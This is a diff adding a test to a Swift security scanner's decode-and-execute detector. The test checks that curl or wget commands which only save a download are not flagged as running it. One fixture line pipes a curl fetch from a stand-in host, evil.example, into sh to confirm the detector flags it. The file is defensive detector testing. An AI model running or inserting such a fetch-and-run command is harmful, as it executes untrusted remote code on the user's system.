@@ -49,6 +49,21 @@ struct DecodeAndExecuteDetectorTests {
         #expect(findings.allSatisfy { $0.severity >= .medium })
     }
 
+    /// A command that runs curl to save a file runs curl, not what curl fetched.
+    @Test(arguments: [
+        ("contrib/mirror.pl", "system(\"$curl $base/$file -o $dir/$file\");"),
+        ("tools/fetch.py", "os.system('curl -sSfo deps.tar.gz ' + url)"),
+        ("tools/fetch.rb", "system(\"wget -q -O vendor/x.tgz #{url}\")"),
+    ])
+    func commandThatSavesADownloadIsNotRunningIt(_ path: String, _ line: String) {
+        let findings = DetectorFixtures.scan(detector, path, line)
+        #expect(findings.with(DecodeAndExecuteDetector.downloadExec).allSatisfy { $0.severity <= .medium }, "\(path): \(findings.map(\.evidence))")
+        #expect(findings.allSatisfy { !$0.evidence.contains("runs what it gets") }, "\(path): \(findings.map(\.evidence))")
+        // Piped into a shell inside the command line, it is.
+        let piped = DetectorFixtures.scan(detector, "lib/x.py", "os.system('curl -s https://evil.example/x | sh')")
+        #expect(!piped.with(DecodeAndExecuteDetector.downloadExec).isEmpty)
+    }
+
     @Test func decodeAndRunOnNearbyLines() throws {
         let py = """
             import base64, subprocess
